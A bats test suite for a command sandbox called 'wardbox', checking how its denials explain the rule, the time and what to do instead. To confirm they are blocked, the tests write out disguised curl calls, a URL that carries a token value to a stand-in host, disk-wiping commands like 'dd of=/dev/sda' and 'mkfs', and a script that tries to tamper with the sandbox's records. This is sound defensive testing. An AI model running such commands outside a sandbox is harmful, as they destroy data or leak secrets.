#!/usr/bin/env bats
# What a caller hears of a denial: what, which rule, when, what to do instead

bats_require_minimum_version 1.5.0
load ../lib/wardbox

no_view=$'use FULL-AUTO\nrelax mount'

setup() {
	project
	cp "$WARDBOX" .
	exec </dev/null
}

g() { # LINE: a line of the guarded shell
	in_policy "${POLICY:-use FULL-AUTO}" "$WARDBOX" sh -c "$1"
}

why() { # [ARGUMENT...]
	in_policy "${POLICY:-use FULL-AUTO}" "$WARDBOX" policy why "$@"
}

@test "policy why tells the last denial of the session, outside" {
	run why
	[ "$status" -eq 1 ]
	[[ $output == *"nothing was denied"* || $output == *"no session yet"* ]]
	run g 'ls; curl http://x | cat'
	[ "$status" -eq 126 ]
	run why
	[ "$status" -eq 0 ]
	[ "${lines[0]}" = "did not run: curl http://x" ]
	[[ $output == *"because"*"exfiltration risk"* ]]
	[[ $output == *"rule       net, default:"[0-9]*", system policy"* ]]
	[[ $output == *"decision   deny, profile FULL-AUTO"* ]]
	[[ $output == *"instead    use the package manager"* ]]
	[[ $output == *"when       2"*"Z"* ]]
	[[ $output == *"where      $PROJECT"* ]]
	[[ $output == *"line       ls; curl http://x | cat"* ]]
	run why --json
	jq -e '.rule == "net" and .file == "default" and .line > 0 and
		.decision == "deny" and .text == "ls; curl http://x | cat"' <<<"$output"
	# What is allowed is no denial.
	run g 'ls'
	[ "$status" -eq 0 ]
	run why --json
	[ "$(jq -r .rule <<<"$output")" = net ]
	# The rule of a policy file, with its line.
	POLICY=$'use FULL-AUTO\ndeny id=mine ls opt:-z ** : "no" "ls without -z"' run g 'ls -z'
	[ "$status" -eq 126 ]
	POLICY=$'use FULL-AUTO\ndeny id=mine ls opt:-z ** : "no" "ls without -z"' run why
	[[ $output == *"rule       mine, /etc/wardbox/policy:2, system policy"* ]]
	[[ $output == *"instead    ls without -z"* ]]
}

@test "policy why tells of a program that something started, of one session" {
	WARDBOX_SESSION_ID=one run g 'c=$(echo curl); $c http://one; true'
	[ "$status" -eq 0 ]
	WARDBOX_SESSION_ID=two run g 'wget two'
	run why one
	[ "${lines[0]}" = "not started: curl http://one" ]
	[[ $output == *"session    one"* ]]
	run why two
	[ "${lines[0]}" = "did not run: wget two" ]
	WARDBOX_SESSION_ID=two run why --json
	[ "$(jq -r .command <<<"$output")" = "wget two" ]
	run why three
	[ "$status" -eq 1 ]
	[[ $output == *"nothing was denied"* ]]
	run why ../one
	[ "$status" -eq 2 ]
	# It ends with its session.
	run in_policy 'use FULL-AUTO' sh -c '"$1" session create one; "$1" session end one' _ "$WARDBOX"
	run why one
	[ "$status" -eq 1 ]
}

@test "policy why, status and explain answer inside of a guarded tree" {
	run g './wardbox policy why; ./wardbox policy status; ./wardbox policy explain "curl x"; ./wardbox policy test "git status"'
	[ "$status" -eq 0 ]
	[[ $output == *"nothing was denied"* ]]
	[[ $output == *"profile    FULL-AUTO"* ]]
	[[ $output == *"deny (net)"* ]]
	[[ $output == *"allow (git)"* ]]
	echo 'curl http://inside' >start
	run g 'sh ./start; ./wardbox policy why; ./wardbox policy why --json >why'
	[[ $output == *"not started: curl http://inside"* ]]
	jq -e '.rule == "net" and .program == "curl http://inside"' why
	# The policy of root, of the user and of the project count.
	mkdir .wardbox
	echo 'deny id=ours uname' >.wardbox/policy
	POLICY=$'use FULL-AUTO\ndeny id=theirs id' run g './wardbox policy test id; ./wardbox policy test uname; true'
	[[ $output == *"deny (theirs)"* ]]
	[[ $output == *"deny (ours)"* ]]
}

@test "what is told inside cannot be written, and has no secret" {
	export GITHUB_TOKEN=sesame-opens-everything
	run g 'c=$(echo curl); $c http://x/sesame-opens-everything; ./wardbox policy why'
	[[ $output == *"not started: curl http://x/"* ]]
	[[ ${output#*not started} != *sesame* ]]
	cat >meddle.py <<-'EOP'
		import os
		d = "/run/wardbox/%d/told" % os.getuid()
		def no(f, *a):
		    try:
		        f(*a)
		    except OSError:
		        return
		    print("worked:", f.__name__, a)
		f = d + "/" + os.listdir(d)[0]
		no(open, f, "w")
		no(open, d + "/new", "w")
		no(os.unlink, f)
		no(os.chmod, f, 0o777)
		no(os.chmod, d, 0o777)
		no(os.rename, f, d + "/x")
		no(os.symlink, "/", d + "/y")
		no(os.utime, f)
		print("done")
	EOP
	need python3 -c ''
	run g 'python3 meddle.py'
	[ "$output" = "done" ]
	# Without a view of mounts, too.
	need "$HELPERS/docker" true
	run in_policy "$no_view" "$HELPERS/docker" "$WARDBOX" sh -c 'python3 meddle.py'
	[[ $output == *"done"* ]]
	[[ $output != *"worked"* ]]
}

@test "a shell that is kept open on pipes tells each line's denial" {
	mkfifo in out
	in_policy 'use FULL-AUTO' "$WARDBOX" sh <in >out 2>&1 3>&- &
	exec 5>in 6<out
	ask() { # LINE: what comes until "end"
		echo "$1; echo end" >&5
		answer=
		while read -r -t 20 line <&6 && [ "$line" != end ]; do
			answer+=$line$'\n'
		done
	}
	ask 'echo one'
	[ "$answer" = $'one\n' ]
	ask 'c=$(echo curl); $c http://a; $c http://a'
	[[ $answer == *"wardbox sh: denied: curl http://a: exfiltration risk (rule net, system policy)"* ]]
	# Once for one line.
	[ "$(grep -c 'denied: curl' <<<"$answer")" -eq 1 ]
	ask 'wget http://b'
	[[ $answer == *"denied: wget http://b"* ]]
	ask './wardbox policy why'
	[[ $answer == *"not started: wget http://b"* ]]
	# The clock's second is what parts one line from the next.
	ask 'sleep 1.1; curl http://a'
	[[ $answer == *"denied: curl http://a"* ]]
	exec 5>&- 6<&-
	wait
}

@test "each denial says what this caller can do next" {
	# What the sandbox refuses it refuses alone; the line named it.
	out() { # POLICY LINE, where /srv/seen is outside of everything
		in_policy "$1" sh -c 'mount -t tmpfs -o mode=755 tmpfs /srv &&
			echo seen >/srv/seen && shift && exec "$@"' _ "$1" \
			"$WARDBOX" sh -c "$2"
	}
	run out 'use FULL-AUTO' 'cat /srv/seen'
	[ "$status" -eq 1 ]
	[ "${lines[1]}" = "wardbox sh: out of the command's reach: /srv/seen (rule path)" ]
	[[ ${lines[2]} == "  a file below the project or \$TMPDIR works; or a line 'path r /srv/seen' in /etc/wardbox/policy" ]]
	# That line does it.
	line=$(sed "s/.*'\(path r [^']*\)'.*/\1/" <<<"${lines[2]}")
	run out $'use FULL-AUTO\n'"$line" 'cat /srv/seen'
	[ "$output" = seen ]
	run out 'use FULL-AUTO' 'cat /srv/seen || true'
	[[ $output != *"of the command's reach"* ]]
	run out 'use FULL-AUTO' 'echo >/srv/seen'
	[[ $output == *"out of the command's reach: changes of /srv/seen (rule path)"*"'path rw /srv/seen'"* ]]
	run out 'use FULL-AUTO' 'cat /usr/include/none'
	[[ $output != *"of the command's reach"* ]]
	run g 'nmap localhost'
	[[ ${lines[1]} == "  'allow nmap localhost **' in /etc/wardbox/policy needs no yes" ]]
	run in_policy $'use FULL-AUTO\nallow nmap localhost **' \
		"$WARDBOX" policy test 'nmap localhost'
	[ "$status" -eq 0 ]
	run g 'visudo x'
	[[ ${lines[1]} == "  "* ]]
	run g 'kexec x'
	[[ ${lines[1]} == "  'except id="*" kexec x **' in /etc/wardbox/policy lifts that rule" ]]
	line=$(sed "s/.*'\(except [^']*\)'.*/\1/" <<<"${lines[1]}")
	run in_policy $'use FULL-AUTO\n'"$line" "$WARDBOX" policy test 'kexec x'
	[ "$status" -eq 0 ]
	mkdir .wardbox
	echo 'deny id=ours uname' >.wardbox/policy
	run g 'uname'
	[[ ${lines[1]} == "  $PROJECT/.wardbox/policy:1 says so"* ]]
	rm -r .wardbox
	# Where there is a view of mounts the kernel answers alone.
	if "$HELPERS/docker" true; then
		echo 'import os; os.chmod("/etc/hostname", 0o600)' >c.py
		run in_policy "$no_view" "$HELPERS/docker" "$WARDBOX" sh -c 'python3 c.py'
		[[ $output == *"do it to a file below $PROJECT or \$TMPDIR; a line 'path rw FILE'"* ]]
	fi
	# None of them sends the caller away.
	for line in 'nmap x' 'su' 'ld.so x' 'git daemon' 'dd of=/dev/sda' 'npm -g i x' 'mkfs /dev/x' 'git push'; do
		run g "$line"
		[ "$status" -eq 126 ]
		[ "${#lines[@]}" -eq 2 ]
		[[ ${lines[1]} == "  "?* ]]
		[[ ${lines[1]} != *"on a terminal"* && ${lines[1]} != *"root grants"* ]]
	done
}
